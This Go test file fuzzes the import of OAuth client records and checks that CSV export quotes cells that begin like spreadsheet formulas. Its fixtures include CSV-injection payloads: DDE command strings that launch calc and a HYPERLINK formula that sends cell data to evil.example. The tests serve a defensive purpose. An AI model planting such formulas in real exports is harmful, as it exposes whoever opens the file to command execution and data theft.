package cli

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tokentray/tokentray/vault"
)

// FuzzDecodeImport checks that any import file either fails cleanly or
// yields valid, uniquely named clients that survive a JSON and a CSV round
// trip unchanged.
func FuzzDecodeImport(f *testing.F) {
	f.Add([]byte(`{"schema":1,"clients":[{"name":"billing","client_id":"m2m-client-test-1","token_url":"https://auth.example.com/oauth2/token","scopes":["models:read"],"secret_set_at":"2026-01-02T00:00:00Z","created_at":"2026-01-02T00:00:00Z"}]}`))
	f.Add([]byte("name,client_id,token_url,scopes,auth_style,audience,secret_set_at,notes\nbilling,m2m-client-live-1,https://auth.example.com/token,models:read chat:invoke,body,https://api,2026-01-02,\"a, note\"\n"))
	f.Add([]byte("\ufeffNAME,Client_ID,TOKEN_URL\nx,y,http://127.0.0.1:8080/t\n"))
	f.Add([]byte("name,client_id,token_url\n\"unterminated,x,y\n"))
	f.Add([]byte(`{"schema":1,"clients":[{"name":"a"}]}`))
	f.Add([]byte("name,name\n"))
	f.Add([]byte("name,client_id,token_url,notes,environment\nx,=cmd|' /C calc'!A0,https://auth.example.com/t,\"'=1+1\",test\n"))
	f.Add([]byte("name,client_id,token_url,notes\nx,@SUM(1),https://auth.example.com/t,-2+3\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		clients, err := decodeImport(data)
		if err != nil {
			return
		}
		seen := map[string]bool{}
		for _, c := range clients {
			if _, err := c.Normalize(); err != nil {
				t.Fatalf("decoded an invalid client %+v: %v", c, err)
			}
			if seen[c.Name] {
				t.Fatalf("decoded %q twice", c.Name)
			}
			seen[c.Name] = true
		}
		js, err := encodeJSON(clients)
		if err != nil {
			t.Fatal(err)
		}
		back, err := decodeImport(js)
		if err != nil || len(back) != len(clients) {
			t.Fatalf("JSON round trip: %d clients, %v; want %d", len(back), err, len(clients))
		}
		var csvOut bytes.Buffer
		rot := func(c vault.Client) vault.RotationStatus {
			return vault.Rotation(c.SecretSetAt, time.Unix(0, 0), vault.DefaultRotationPolicy)
		}
		if err := encodeCSV(&csvOut, clients, rot); err != nil {
			t.Fatal(err)
		}
		back, err = decodeImport(csvOut.Bytes())
		if err != nil || len(back) != len(clients) {
			t.Fatalf("CSV round trip: %d clients, %v; want %d\n%s", len(back), err, len(clients), csvOut.String())
		}
		for i, g := range back {
			w := clients[i]
			if g.Name != w.Name || g.ClientID != w.ClientID || g.TokenURL != w.TokenURL || !slices.Equal(g.Scopes, w.Scopes) ||
				g.AuthStyle != w.AuthStyle || g.Audience() != w.Audience() || g.Notes != w.Notes ||
				!g.SecretSetAt.Equal(w.SecretSetAt) || g.Environment() != w.Environment() {
				t.Fatalf("CSV round trip changed a client:\ngot  %+v\nwant %+v\n%s", g, w, csvOut.String())
			}
		}
		assertNoFormulaCells(t, csvOut.Bytes())
	})
}

// assertNoFormulaCells fails when a CSV cell would start a spreadsheet
// formula.
func assertNoFormulaCells(t *testing.T, data []byte) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v", err)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell == "" {
				continue
			}
			if _, err := strconv.Atoi(cell); err == nil {
				continue // a number, such as a negative days_left
			}
			if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Fatalf("CSV cell %q starts a formula", cell)
			}
		}
	}
}

// TestExportCSVNeutralisesFormulas exports clients whose notes and client
// ids begin like formulas: every such cell starts with a quote, and import
// gives the text back unchanged.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	h := newHarness(t)
	formulas := map[string]string{
		"a": "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
		"b": "+1+cmd|' /C calc'!A0",
		"c": "-2+3",
		"d": "@SUM(A1:A9)",
		"e": "'=already quoted",
	}
	for name, notes := range formulas {
		h.addClient(name)
		h.mustRun(0, "", "edit", name, "--notes", notes)
	}
	h.mustRun(0, "", "edit", "c", "--secret-set-at", time.Now().Add(-100*24*time.Hour).UTC().Format(time.RFC3339))
	out, _ := h.mustRun(0, "", "export", "--format", "csv")
	assertNoFormulaCells(t, []byte(out))
	if !strings.Contains(out, `,"'=HYPERLINK(`) || !strings.Contains(out, ",'-2+3,") || !strings.Contains(out, ",''=already quoted,") {
		t.Errorf("export did not quote the formulas:\n%s", out)
	}
	if !strings.Contains(out, ",overdue,") || !strings.Contains(out, ",-10,100,") {
		t.Errorf("export lacks c's overdue status with -10 days left, age 100 (numbers unquoted):\n%s", out)
	}
	dst := newHarness(t)
	dst.mustRun(0, out, "import", "-")
	for name, notes := range formulas {
		c, err := dst.store().Get(name)
		if err != nil || c.Notes != notes {
			t.Errorf("imported %s notes = %q, %v; want %q", name, c.Notes, err, notes)
		}
	}
}
